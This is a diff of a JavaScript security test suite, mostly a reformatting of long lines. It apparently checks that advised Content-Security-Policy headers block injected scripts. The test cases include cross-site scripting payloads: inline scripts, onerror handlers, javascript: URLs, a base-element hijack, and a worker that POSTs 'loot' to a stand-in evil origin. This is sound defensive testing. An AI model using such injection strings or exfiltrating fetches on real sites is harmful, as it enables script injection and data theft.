@@ -23,7 +23,10 @@ const markup = {
   "an inline script": [(rig) => `<script>${script(rig)}</script>`, element],
   "an inline event handler": [(rig) => `<img src="/no" onerror="${escapeHtml(script(rig))}">`, "script-src-attr"],
   "a foreign script": [(rig) => `<script src="${rig.origins.evil}/x.js"></script>`, element],
-  "an inline script in the document of a frame": [(rig) => `<iframe srcdoc="${escapeHtml(`<script>${script(rig)}</script>`)}"></iframe>`, element],
+  "an inline script in the document of a frame": [
+    (rig) => `<iframe srcdoc="${escapeHtml(`<script>${script(rig)}</script>`)}"></iframe>`,
+    element,
+  ],
   "a base element that moves the app's scripts": [(rig) => `<base href="${rig.origins.evil}/"><script src="x.js"></script>`, "base-uri"],
 };
 
@@ -32,8 +35,16 @@ const carelessness = {
   "text as innerHTML": [(rig) => `<img src="/no" onerror="${escapeHtml(script(rig))}">`, (text) => (document.body.innerHTML = text), sink],
   "a javascript: URL": [(rig) => `javascript:${encodeURIComponent(script(rig))}`, (text) => (location.href = text), element],
   "a link with a javascript: URL": [(rig) => `javascript:${encodeURIComponent(script(rig))}`, clickLink, element],
-  "a worker from a blob: URL": [(rig) => `fetch(${JSON.stringify(`${rig.origins.evil}/loot`)}, { method: "POST", mode: "no-cors", body: "ran in a worker" })`, startBlob, sink],
-  "a foreign source for a script element": [(rig) => `${rig.origins.evil}/x.js`, (text) => document.head.append(Object.assign(document.createElement("script"), { src: text })), sink],
+  "a worker from a blob: URL": [
+    (rig) => `fetch(${JSON.stringify(`${rig.origins.evil}/loot`)}, { method: "POST", mode: "no-cors", body: "ran in a worker" })`,
+    startBlob,
+    sink,
+  ],
+  "a foreign source for a script element": [
+    (rig) => `${rig.origins.evil}/x.js`,
+    (text) => document.head.append(Object.assign(document.createElement("script"), { src: text })),
+    sink,
+  ],
 };
 
 function clickLink(text) {
@@ -67,7 +78,14 @@ for (const [what, [text, careless, directive]] of Object.entries(carelessness)) 
 
 /** Registers an injection: `free` carries it out where there is no policy, `strict` where there is one that tells `directive`. */
 function inject(what, { free, strict, directive }) {
-  const definition = { id: "T16", threat: "S1 to S13", title: `the advised headers hold back ${what} (SAFE-4)`, modes: withTheApp, outcome: "stopped", share: "policy" };
+  const definition = {
+    id: "T16",
+    threat: "S1 to S13",
+    title: `the advised headers hold back ${what} (SAFE-4)`,
+    modes: withTheApp,
+    outcome: "stopped",
+    share: "policy",
+  };
   attack(definition, async (rig) => {
     const prepared = (rig.prepared ??= await prepare(rig));
     rig.shown.headers = {};
@@ -90,25 +108,36 @@ function inject(what, { free, strict, directive }) {
 /** Whatever the policy let through would have arrived before the answer to this request. */
 async function assertNothingArrived(rig, { signedIn }) {
   assert.equal((await send(signedIn, rig.v1("files"))).value?.status, 200);
-  assert.deepEqual(rig.evil.requests.map(({ method, url }) => `${method} ${url}`), []);
+  assert.deepEqual(
+    rig.evil.requests.map(({ method, url }) => `${method} ${url}`),
+    [],
+  );
 }
 
 /** Signs in with the policy and with all the markup in every page, on the way back from the authorization server too. */
 async function prepare(rig) {
   const reports = [];
-  const page = () => ["text/html; charset=utf-8", `<!doctype html><html lang="en" data-holder="${holderPlace}"><meta charset="utf-8"><title>app</title>
-    <script type="module" src="/app.js"></script>${rig.shown.injected}<h1>app</h1></html>`];
+  const page = () => [
+    "text/html; charset=utf-8",
+    `<!doctype html><html lang="en" data-holder="${holderPlace}"><meta charset="utf-8"><title>app</title>
+    <script type="module" src="/app.js"></script>${rig.shown.injected}<h1>app</h1></html>`,
+  ];
   for (const path of ["/", "/place", "/callback"]) rig.shown.files[path] = page;
   Object.assign(rig.shown.files, inPlace((await bundles()).scripts.holder, rig.shown));
   rig.shown.routes = { "/reports": (request, response) => takeReport(reports, request, response) };
   rig.evil.routes["/x.js"] = (request, response) => answer(response, 200, script(rig), { "content-type": "text/javascript" });
-  rig.shown.injected = Object.values(markup).map(([html]) => html(rig)).join("");
+  rig.shown.injected = Object.values(markup)
+    .map(([html]) => html(rig))
+    .join("");
   const { app, as, api } = rig.origins;
   const headers = advised({ single: rig.mode === "page", app, authorizationServer: as, apis: [api] });
   rig.shown.headers = headers;
   const signedIn = await rig.open();
   await signIn(signedIn);
-  await until(() => new Set(reports).size === new Set(Object.values(markup).map(([, directive]) => directive)).size, "a report of each kind");
+  await until(
+    () => new Set(reports).size === new Set(Object.values(markup).map(([, directive]) => directive)).size,
+    "a report of each kind",
+  );
   await assertNothingArrived(rig, { signedIn });
   return { reports, headers, signedIn };
 }
